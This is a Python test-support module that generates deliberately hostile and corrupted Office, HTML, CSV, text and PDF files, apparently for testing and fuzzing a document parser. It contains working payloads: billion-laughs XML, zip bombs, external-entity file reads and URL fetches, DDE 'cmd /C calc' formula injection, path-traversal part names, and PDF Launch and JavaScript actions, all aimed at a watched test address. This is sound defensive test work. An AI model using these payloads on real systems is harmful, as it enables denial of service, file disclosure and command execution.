"""Office files that were made to hurt, and ways to damage good ones.

What leads out of a file leads to a file and an address that are watched (`tests/support/injections.py`).
"""

import random
import re
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from warnings import catch_warnings
from zipfile import ZIP_DEFLATED, ZIP_STORED, BadZipFile, ZipFile

import pikepdf

from tests.support.compound_files import compound_file
from tests.support.excel_files import excel_file
from tests.support.word_files import cell, par, row, table, word_file, zipped

_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
LAUGHS = f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a0 "ha">{_LAUGHS}]>'
MEGABYTE = 2**20


@dataclass(frozen=True, slots=True)
class Out:
    """What leads out of a file leads here: to a file, and to an address."""

    file: str
    url: str


# Made ones. `size` is 1 for the whole size, less for a part of it.

Make = Callable[[Out, float], bytes]


def _doctype(out: Out, way: str) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY {way}>]>'.format(file=f"file://{out.file}", url=out.url)


def _document(xml: str) -> bytes:
    return word_file(parts={"word/document.xml": xml})


def _related(out: Out, kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    """A Word file that has a part outside of itself."""
    to = target.format(file=f"file://{out.file}", path=out.file, url=out.url)
    link = f'<Relationship Id="out" Type="{_OFFICE}/{kind}" Target="{to}" {mode}/>'
    relations = f'<Relationships xmlns="{_PACKAGE}">{link}</Relationships>'
    chunk = '<w:altChunk r:id="out"/>'
    field = par('<w:fldSimple w:instr=" INCLUDETEXT &quot;' + to + '&quot; "/>')
    return word_file("ข้อความ", chunk, field, parts={"word/_rels/document.xml.rels": relations})


def _overlapping(out: Out, size: float) -> bytes:
    """A list of many parts that are all the same bytes, each of them large when it is unpacked."""
    data = bytearray(zipped({"word/document.xml": "<a/>", "word/media/1.bin": bytes(int(20 * MEGABYTE * size))}))
    start = data.rindex(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry, tail = bytes(data[start:end]), bytearray(data[end:])
    many = [entry.replace(b"media/1.bin", b"media/%d.bin" % (n % 10)) for n in range(900)]
    struct.pack_into("<HH", tail, 8, 901, 901)
    first = data.index(b"PK\x01\x02")
    struct.pack_into("<I", tail, 12, start - first + sum(map(len, many)))
    return bytes(data[:start]) + b"".join(many) + bytes(tail)


def _nested(out: Out, size: float) -> bytes:
    inner = "ใน"
    for _ in range(int(3_000 * size) + 10):
        inner = table(row(cell(inner)))
    return word_file(inner)


def _chain_of_styles(out: Out, size: float) -> bytes:
    made = "".join(
        f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>' for n in range(int(20_000 * size))
    )
    circle = '<w:style w:styleId="c"><w:basedOn w:val="c"/></w:style>'
    body = par("ก", properties='<w:pStyle w:val="s0"/>'), par("ข", properties='<w:pStyle w:val="c"/>')
    return word_file(*body, parts={"word/styles.xml": f"<w:styles {_W}>{made}{circle}</w:styles>"})


def _many_rows(out: Out, size: float) -> bytes:
    cells = int(10**6 * size)
    rows = (f"<w:tr><!-- {n * 7919 % 104_729} -->{'<w:tc><w:p/></w:tc>' * 10}</w:tr>" for n in range(cells // 10))
    return word_file(table(*rows))


def _sheet_with_cells(out: Out, size: float) -> bytes:
    return excel_file({f"{'ABCDEFGHIJ'[n % 10]}{n // 10 + 1}": n for n in range(int(10**6 * size))})


def _sheet(xml: str, more: dict[str, str | bytes] | None = None) -> bytes:
    return excel_file({"A1": "ก"}, parts={"xl/worksheets/sheet1.xml": xml, **(more or {})})


def _worksheet(inner: str) -> str:
    return f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{inner}</worksheet>'


def _pdf(change: Callable[[pikepdf.Pdf], object], **saving: object) -> bytes:
    made = BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        document.save(made, **saving)  # type: ignore[arg-type]
    return made.getvalue()


def _with_stream(data: bytes) -> Callable[[pikepdf.Pdf], object]:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].Contents = document.make_stream(data)

    return change


def _with_action(action: str, out: Out) -> Callable[[pikepdf.Pdf], object]:
    def change(document: pikepdf.Pdf) -> None:
        _with_stream(b"BT (x) Tj ET")(document)
        text = action.format(file=out.file, url=out.url)
        document.Root.OpenAction = pikepdf.Object.parse(text.encode())

    return change


def _with_a_circle_of_pages(document: pikepdf.Pdf) -> None:
    document.Root.Pages.Kids.append(document.Root.Pages)


def _fat_circle(streams: dict[str, bytes]) -> bytes:
    """A compound file whose chain of sectors leads back to its beginning."""
    data = bytearray(compound_file(streams))
    at = 512 * (1 + struct.unpack_from("<I", data, 76)[0])
    struct.pack_into("<128I", data, at, *[1, 0, *[0] * 126])
    return bytes(data)


def _old_sheet(records: bytes) -> bytes:
    begin = struct.pack("<HHHHHHII", 0x809, 16, 0x600, 5, 0, 0, 0, 0)
    return compound_file({"Workbook": begin + records + struct.pack("<HH", 0xA, 0) + bytes(4096)})


MADE: dict[str, Make] = {
    # Word
    "a bomb of one part.docx": lambda out, size: _document(" " * int(300 * MEGABYTE * size)),
    "a bomb of parts.docx": lambda out, size: word_file(
        "ก", parts={f"word/media/{n}.bin": bytes(int((4 * MEGABYTE - 1) * size)) for n in range(60)}
    ),
    "parts over each other.docx": _overlapping,
    "parts without end.docx": lambda out, size: word_file(
        "ก", parts={f"word/{n}.xml": "" for n in range(int(60_000 * size))}
    ),
    "a billion laughs.docx": lambda out, size: _document(f"{LAUGHS}<w:document {_W}>&a11;</w:document>"),
    "laughs in the styles.docx": lambda out, size: word_file(
        "ก", parts={"word/styles.xml": f"{LAUGHS}<w:styles {_W}>&a11;</w:styles>"}
    ),
    "an entity that is a file.docx": lambda out, size: _document(
        _doctype(out, 'a SYSTEM "{file}"') + f"<w:document {_W}>&a;</w:document>"
    ),
    "an entity that is an address.docx": lambda out, size: _document(
        _doctype(out, 'a SYSTEM "{url}/a"') + f"<w:document {_W}>&a;</w:document>"
    ),
    "a parameter that is an address.docx": lambda out, size: _document(
        _doctype(out, '% a SYSTEM "{url}/a.dtd"> %a; <!ENTITY b "b"') + f"<w:document {_W}/>"
    ),
    "a document type elsewhere.docx": lambda out, size: _document(
        f'<!DOCTYPE w SYSTEM "{out.url}/w.dtd"><w:document {_W}><w:body/></w:document>'
    ),
    "a template elsewhere.docx": lambda out, size: _related(out, "attachedTemplate", "{url}/a.dotm"),
    "a template that is a file.docx": lambda out, size: _related(out, "attachedTemplate", "{file}"),
    "styles elsewhere.docx": lambda out, size: _related(out, "styles", "{url}/styles.xml"),
    "numbers that are a file.docx": lambda out, size: _related(out, "numbering", "{path}", ""),
    "numbers outside of the package.docx": lambda out, size: _related(out, "numbering", "../../../../../..{path}", ""),
    "a picture elsewhere.docx": lambda out, size: _related(out, "image", "{url}/a.png"),
    "a share of another computer.docx": lambda out, size: _related(out, "image", r"\\127.0.0.1\a.png"),
    "an object elsewhere.docx": lambda out, size: _related(out, "oleObject", "{url}/a.xls!A1"),
    "a chunk elsewhere.docx": lambda out, size: _related(out, "aFChunk", "{url}/a.html"),
    "names that lead out.docx": lambda out, size: word_file(
        "ก", parts={"../../ออก.xml": "<a/>", out.file: "<a/>", "C:\\ออก.xml": "<a/>"}
    ),
    "macros.docm": lambda out, size: word_file("ก", parts={"word/vbaProject.bin": b"Auto_Open Shell"}),
    "10^6 cells.docx": _many_rows,
    "tables in tables.docx": _nested,
    "a chain of styles.docx": _chain_of_styles,
    "elements without end.docx": lambda out, size: _document("<a>" * int(10**6 * size)),
    "elements in elements.docx": lambda out, size: _document(
        f"<w:document {_W}><w:body>{'<w:sdt><w:sdtContent>' * int(20_000 * size)}"
        f"{'</w:sdtContent></w:sdt>' * int(20_000 * size)}"
        "</w:body></w:document>"
    ),
    "wide cells.docx": lambda out, size: word_file(
        table(
            row(*[cell("ก", properties='<w:gridSpan w:val="999999999"/>')] * 50),
            row(cell("ข", properties='<w:gridSpan w:val="-1"/>')),
        )
    ),
    "far rows.docx": lambda out, size: word_file(
        table(
            row("ก", properties='<w:gridBefore w:val="999"/>'),
            *[row(cell("ข", properties='<w:gridSpan w:val="999"/>')) for _ in range(int(20_000 * size))],
        )
    ),
    # Excel
    "a bomb of one sheet.xlsx": lambda out, size: _sheet(_worksheet(" " * int(300 * MEGABYTE * size))),
    "laughs in a sheet.xlsx": lambda out, size: _sheet(
        LAUGHS + _worksheet("<sheetData><row><c><v>&a11;</v></c></row></sheetData>")
    ),
    "laughs in the texts.xlsx": lambda out, size: _sheet(
        _worksheet(""), {"xl/sharedStrings.xml": f"{LAUGHS}<sst><si><t>&a11;</t></si></sst>"}
    ),
    "an entity that is a file.xlsx": lambda out, size: _sheet(_doctype(out, 'a SYSTEM "{file}"') + _worksheet("&a;")),
    "a workbook elsewhere.xlsx": lambda out, size: _sheet(
        _worksheet("<sheetData><row r='1'><c r='A1'><f>[1]ก!A1</f><v>1</v></c></row></sheetData>"),
        {
            "xl/externalLinks/externalLink1.xml": "<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r" '
            f'Type="{_OFFICE}/externalLinkPath" Target="{out.url}/a.xlsx" TargetMode="External"/></Relationships>',
            "xl/connections.xml": f'<connections><connection id="1" odcFile="{out.file}">'
            f'<webPr url="{out.url}"/></connection></connections>',
        },
    ),
    "formulas that fetch.xlsx": lambda out, size: _sheet(
        _worksheet(
            f"<sheetData><row r='1'><c r='A1'><f>WEBSERVICE(\"{out.url}\")</f></c><c r='B1'><f>cmd|'/C calc'!A0</f>"
            "<v>1</v></c></row></sheetData>"
        )
    ),
    "macros.xlsm": lambda out, size: excel_file({"A1": "ก"}, parts={"xl/vbaProject.bin": b"Auto_Open"}),
    "10^6 cells.xlsx": _sheet_with_cells,
    "cells far from each other.xlsx": lambda out, size: excel_file({"A1": "ก", "XFD1048576": "ข"}),
    "cells that lie.xlsx": lambda out, size: _sheet(
        _worksheet(
            "<dimension ref='A1:XFD1048576'/>"
            "<sheetData><row r='1048576'><c r='XFD1048576'><v>1</v></c></row></sheetData>"
        )
    ),
    "cells without places.xlsx": lambda out, size: _sheet(
        _worksheet(f"<sheetData>{'<row><c><v>1</v></c></row>' * int(10**6 * size)}</sheetData>")
    ),
    "cells merged without end.xlsx": lambda out, size: excel_file(
        {"A1": "ก"}, merged=[f"A{n}:XFD{n + 1_000}" for n in range(1, int(20_000 * size) + 2)]
    ),
    "texts that are not there.xlsx": lambda out, size: _sheet(
        _worksheet("<sheetData><row r='1'><c r='A1' t='s'><v>999999</v></c></row></sheetData>")
    ),
    "a password.xlsx": lambda out, size: compound_file({"EncryptedPackage": bytes(5_000), "EncryptionInfo": b"y"}),
    # Binary ones
    "sectors in a circle.doc": lambda out, size: _fat_circle(
        {"WordDocument": b"\xec\xa5\xc1\x00" + bytes(5_000), "1Table": bytes(5_000)}
    ),
    "no text.doc": lambda out, size: compound_file(
        {"WordDocument": b"\xec\xa5\xc1\x00" + bytes(5_000), "0Table": bytes(100), "1Table": bytes(100)}
    ),
    "places beyond.doc": lambda out, size: compound_file(
        {"WordDocument": b"\xec\xa5\xc1\x00" + b"\xff" * 5_000, "1Table": b"\xff" * 5_000}
    ),
    "half a container.doc": lambda out, size: compound_file({"WordDocument": bytes(50_000)})[:9_000],
    "Word 6.doc": lambda out, size: compound_file({"WordDocument": b"\xdc\xa5\x65\x00" + bytes(5_000)}),
    "a web page.doc": lambda out, size: "<html><body><table><tr><td>ก<td>ข</table>".encode(),
    "RTF.doc": lambda out, size: b"{\\rtf1\\ansi \\object\\objdata " + b"0" * int(10 * MEGABYTE * size) + b"}",
    "a password.xls": lambda out, size: _old_sheet(struct.pack("<HH", 0x2F, 54) + bytes(54)),
    "a sheet beyond.xls": lambda out, size: _old_sheet(
        struct.pack("<HHIBB", 0x85, 12, 0xFFFFFFF0, 0, 0) + b"\x04\x00" + b"abcd"
    ),
    "records that lie.xls": lambda out, size: _old_sheet(
        struct.pack("<HH", 0xFC, 0xFFFF) + struct.pack("<II", 2**31, 2**31)
    ),
    "sectors in a circle.xls": lambda out, size: _fat_circle({"Workbook": bytes(9_000)}),
    # Web pages
    "parts elsewhere.html": lambda out, size: (
        f'<html><head><base href="{out.url}/"><link rel=stylesheet href="{out.url}/a.css">'
        f'<script src="{out.url}/a.js"></script>'
        f'<meta http-equiv=refresh content="0;url={out.url}"></head><body background="{out.url}/b.png">'
        f'<img src="{out.url}/a.png">'
        f'<img src="file://{out.file}"><iframe src="{out.url}"></iframe>'
        f'<object data="{out.file}"></object><table><tr><td>ก</table>'
    ).encode(),
    "10^6 cells.html": lambda out, size: b"<table>" + b"<tr><td>1<td>2" * int(500_000 * size),
    "tables in tables.html": lambda out, size: b"<html><table><tr><td>" * int(100_000 * size),
    "lists in lists.html": lambda out, size: b"<html>" + b"<ul><li>" * int(200_000 * size) + b"x",
    "wide cells.html": lambda out, size: b"<table>" + b"<tr><td colspan=999 rowspan=999>x" * int(20_000 * size),
    "a comment without end.html": lambda out, size: b"<html><!--" + b"-" * int(19 * MEGABYTE * size),
    "tags without end.html": lambda out, size: b"<html>" + b"<" * int(10 * MEGABYTE * size),
    "numbers of letters.html": lambda out, size: (
        b"<html>" + b"&#99999999999999999999;&#x110000;&#0;" * int(200_000 * size)
    ),
    "entities.html": lambda out, size: (
        LAUGHS.replace('<?xml version="1.0"?>', "") + "<html><body>&a11;</body></html>"
    ).encode(),
    "an encoding of its own.html": lambda out, size: (
        b'<html><meta charset="zlib_codec"><table><tr><td>\xa1\xff</table>'
    ),
    # Texts
    "10^6 cells.txt": lambda out, size: b"1\t2\n" * int(500_000 * size),
    "one line.txt": lambda out, size: "ก".encode() * int(30 * MEGABYTE * size),
    "lines without end.txt": lambda out, size: b"1\n" * int(10**7 * size),
    "zeros.txt": lambda out, size: bytes(int(50 * MEGABYTE * size) + 1),
    "UTF-16 without end.txt": lambda out, size: b"\xff\xfe" + b"\x01\xd8" * int(10 * MEGABYTE * size),
    "10^6 cells.csv": lambda out, size: b"1,2\n" * int(500_000 * size),
    "a quote without end.csv": lambda out, size: 'มาตรการ,ขั้นตอน\n"'.encode() + b"a,\n" * int(5 * MEGABYTE * size),
    "quotes without end.csv": lambda out, size: b'a,"' + b'"' * int(5 * MEGABYTE * size) + b"\n",
    "commas without end.csv": lambda out, size: b"a\n" + b"," * int(10**7 * size) + b"\n",
    "formulas.csv": lambda out, size: f'มาตรการ,ขั้นตอน\n"=WEBSERVICE(""{out.url}"")",=cmd|\' /C calc\'!A0\n'.encode(),
    # PDF
    "a scan.pdf": lambda out, size: _pdf(_with_stream(b"q 1 0 0 1 0 0 cm Q")),
    "a password.pdf": lambda out, size: _pdf(
        _with_stream(b"BT ET"), encryption=pikepdf.Encryption(user="ลับ", owner="ลับ")
    ),
    "a bomb.pdf": lambda out, size: _pdf(_with_stream(b" " * int(300 * MEGABYTE * size))),
    "lines without end.pdf": lambda out, size: _pdf(_with_stream(b"0 0 m 100 0 l S " * int(10**6 * size))),
    "letters without end.pdf": lambda out, size: _pdf(
        _with_stream(b"BT /F1 1 Tf " + b"(aaaaaaaaaa) Tj " * int(10**6 * size) + b"ET")
    ),
    "pages without end.pdf": lambda out, size: _pdf(
        lambda document: [document.add_blank_page() for _ in range(int(20_000 * size))]
    ),
    "pages in a circle.pdf": lambda out, size: _pdf(_with_a_circle_of_pages),
    "an action.pdf": lambda out, size: _pdf(_with_action("<< /S /URI /URI ({url}) >>", out)),
    "a program.pdf": lambda out, size: _pdf(_with_action("<< /S /Launch /F ({file}) >>", out)),
    "a script.pdf": lambda out, size: _pdf(_with_action("<< /S /JavaScript /JS (app.launchURL\\('{url}'\\)) >>", out)),
    "a form that is sent.pdf": lambda out, size: _pdf(_with_action("<< /S /SubmitForm /F ({url}) >>", out)),
    "a file without objects.pdf": lambda out, size: b"%PDF-1.7\nstartxref\n99999999999\n%%EOF",
}
"""By the name of the file, what makes it."""

MUST_BE_REFUSED = re.compile("bomb|laughs|entity|parameter|elsewhere[.]dtd|password|scan|RTF|Word 6|zeros")
"""The names of made files that hold nothing that may be read."""


# Damage

Damage = Callable[[bytes, random.Random, Out], bytes]
_NUMBERS = ("-1", "0", "1e999", "999999999999999999999", "๙๙", "NaN", "", "2147483648")
_TAG = re.compile(r"<[^<>]{0,300}>")
_FIGURES = re.compile("[0-9]+")


def _flips_bits(data: bytes, chance: random.Random, out: Out) -> bytes:
    made = bytearray(data)
    for _ in range(chance.randint(1, 16)):
        made[chance.randrange(len(made))] ^= 1 << chance.randrange(8)
    return bytes(made)


def _cuts(data: bytes, chance: random.Random, out: Out) -> bytes:
    return data[: chance.randrange(1, len(data))]


def _drops_a_piece(data: bytes, chance: random.Random, out: Out) -> bytes:
    at = chance.randrange(len(data))
    return data[:at] + data[at + chance.randint(1, 600) :]


def _repeats_a_piece(data: bytes, chance: random.Random, out: Out) -> bytes:
    at = chance.randrange(len(data))
    return data[:at] + data[at : at + chance.randint(1, 600)] * chance.randint(2, 50) + data[at:]


def _zeroes_a_piece(data: bytes, chance: random.Random, out: Out) -> bytes:
    at, size = chance.randrange(len(data)), chance.randint(1, 600)
    return data[:at] + chance.choice((b"\x00", b"\xff")) * size + data[at + size :]


def _adds_noise(data: bytes, chance: random.Random, out: Out) -> bytes:
    at = chance.randrange(len(data))
    return data[:at] + chance.randbytes(chance.randint(1, 300)) + data[at:]


def _puts_a_large_number(data: bytes, chance: random.Random, out: Out) -> bytes:
    """Four bytes become a length or place beyond all others."""
    at = chance.randrange(max(len(data) - 4, 1))
    return data[:at] + struct.pack("<I", chance.choice((0xFFFFFFFF, 0x7FFFFFFF, 0x80000000, 0xFFFF))) + data[at + 4 :]


_OF_BYTES: tuple[Damage, ...] = (
    _flips_bits,
    _cuts,
    _drops_a_piece,
    _repeats_a_piece,
    _zeroes_a_piece,
    _adds_noise,
    _puts_a_large_number,
)


def _changed_text(text: str, chance: random.Random, out: Out) -> str:
    """A text of tags with another number, a tag less, more or elsewhere, or what leads out."""
    tags, figures = list(_TAG.finditer(text)), list(_FIGURES.finditer(text))
    way = chance.randrange(8)
    if way < 2 and figures:
        found = chance.choice(figures)
        return text[: found.start()] + chance.choice(_NUMBERS) + text[found.end() :]
    if not tags:
        return text[: len(text) // 2] + '"\t,\n;' + text[len(text) // 2 :]
    found, other = chance.choice(tags), chance.choice(tags)
    if way == 2:
        return text[: found.start()] + text[found.end() :]
    if way == 3:
        return text[: found.end()] + found[0] * chance.randint(1, 3_000) + text[found.end() :]
    if way == 4:
        return text[: found.start()] + other[0] + text[found.end() :]
    if way == 5:
        start, end = sorted((found.start(), other.start()))
        return text[:end] + text[start:end][:20_000] + text[end:]
    if way == 6:
        return f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{out.file}"><!ENTITY c SYSTEM "{out.url}">]>' + text + "&b;&c;"
    return text[: found.end()] + f"&b;\x01\ufffe{out.url}" + text[found.end() :]


def _changes_the_text(data: bytes, chance: random.Random, out: Out) -> bytes:
    return _changed_text(data.decode("utf-8", "replace"), chance, out).encode("utf-8", "replace")


def _changes_a_part(data: bytes, chance: random.Random, out: Out) -> bytes:
    """A part of a zipped file is another, or is gone, or has another name."""
    try:
        with ZipFile(BytesIO(data)) as archive:
            parts = [(name, archive.read(name)) for name in archive.namelist()]
    except (BadZipFile, zlib.error, OSError, EOFError, ValueError, RuntimeError):  # damaged before
        return _flips_bits(data, chance, out)
    at = chance.randrange(len(parts))
    name, part = parts[at]
    way = chance.randrange(10)
    if way == 0:
        del parts[at]
    elif way == 1:
        parts[at] = chance.choice(parts)[0], part
    elif way == 2:
        parts[at] = name, chance.choice(_OF_BYTES)(part or b" ", chance, out)
    elif way == 3:
        parts.append((chance.choice(("word/vbaProject.bin", "word/embeddings/a.bin", "../a.xml", name)), part))
    else:
        parts[at] = name, _changes_the_text(part, chance, out)
    made = BytesIO()
    with catch_warnings(action="ignore"), ZipFile(made, "w", chance.choice((ZIP_DEFLATED, ZIP_STORED))) as archive:
        for name, part in parts:
            archive.writestr(name, part)
    return made.getvalue()


_ZIPPED, _TEXTS = (".docx", ".docm", ".xlsx", ".xlsm"), (".html", ".txt", ".csv")
_ENDINGS = (".docx", ".doc", ".xlsx", ".xls", ".html", ".txt", ".csv", ".pdf")


def damaged(good: dict[str, bytes], numbers: range, out: Out) -> Iterator[tuple[str, bytes]]:
    """A damaged file for each number, which is its seed, made of the good ones in turn. One of ten is misnamed."""
    names = sorted(good)
    for number in numbers:
        chance = random.Random(number)
        name = names[number % len(names)]
        ending = name[name.rindex(".") :]
        ways: list[Damage] = [*_OF_BYTES]
        ways += [_changes_a_part] * 14 if ending in _ZIPPED else [_changes_the_text] * 7 if ending in _TEXTS else []
        data = good[name]
        for _ in range(chance.choice((1, 1, 2, 5))):
            data = chance.choice(ways)(data, chance, out) or b"\x00"
        shown = chance.choice(_ENDINGS) if number % 10 == 0 else ending
        yield f"{number} {name.removesuffix(ending)}{shown}", data
